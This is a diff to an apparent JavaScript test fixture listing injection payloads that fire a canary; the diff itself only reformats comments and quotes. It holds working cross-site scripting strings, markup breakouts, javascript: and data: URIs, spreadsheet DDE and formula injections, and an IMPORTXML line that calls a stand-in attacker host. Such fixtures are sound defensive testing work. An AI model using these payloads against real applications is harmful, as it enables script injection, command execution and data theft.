@@ -1,4 +1,7 @@
-/** Texts that run code where they are taken for markup, an address, a template or a formula; `CODE` becomes a call of the canary. */
+/**
+ * Texts that run code where they are taken for markup, an address, a template or a formula; `CODE` becomes a call of
+ * the canary.
+ */
 const markup = [
   '<script>CODE</script>',
   '<ScRiPt >CODE</sCrIpT >',
@@ -48,7 +51,10 @@ const markup = [
 /** What closes the markup a text may stand in. */
 const breakouts = ['', '">', "'>", '--></title></textarea>', '</script></style>', ']]>', '\\"\\u003e'];
 
-/** What is no markup by itself: code, templates, formulas, addresses, queries, and Unicode that folds or turns into something else. */
+/**
+ * What is no markup by itself: code, templates, formulas, addresses, queries, and Unicode that folds or turns into
+ * something else.
+ */
 const plain = [
   "';CODE;//",
   '";CODE;//',
@@ -73,10 +79,10 @@ const plain = [
   'vbscript:CODE',
   'data:text/html,<script>CODE</script>',
   '=HYPERLINK("javascript:CODE","open")',
-  '=cmd|\'/C CODE\'!A0',
-  '+cmd|\'/C CODE\'!A0',
-  '-2+3+cmd|\'/C CODE\'!A0',
-  '@SUM(1+1)*cmd|\'/C CODE\'!A0',
+  "=cmd|'/C CODE'!A0",
+  "+cmd|'/C CODE'!A0",
+  "-2+3+cmd|'/C CODE'!A0",
+  "@SUM(1+1)*cmd|'/C CODE'!A0",
   '\t=IMPORTXML("https://evil.example/CODE","//a")',
   '\r=1+CODE',
   '\uFF1Cscript\uFF1ECODE\uFF1C/script\uFF1E',
